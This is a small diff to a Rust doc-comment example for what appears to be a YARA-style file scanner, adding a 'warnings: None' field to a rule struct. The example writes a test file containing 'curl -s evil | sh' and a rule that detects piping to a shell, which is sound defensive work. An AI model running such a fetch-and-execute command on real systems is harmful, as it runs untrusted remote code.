@@ -199,7 +199,7 @@ pub enum StartError {
 /// let folder = tempfile::tempdir()?;
 /// std::fs::write(folder.path().join("script"), "curl -s evil | sh")?;
 /// let text = r#"rule pipe_to_shell { strings: $a = "| sh" condition: $a }"#.to_owned();
-/// let rule = RuleSource { namespace: "own".into(), origin: "own.yar".into(), text: text.into() };
+/// let rule = RuleSource { namespace: "own".into(), origin: "own.yar".into(), text: text.into(), warnings: None };
 /// let rules = Arc::new(Ruleset::compile(&[rule], &[])?);
 ///
 /// let scan = Scan::start(Tree::open(folder.path())?, rules, ScanOptions::default())?;
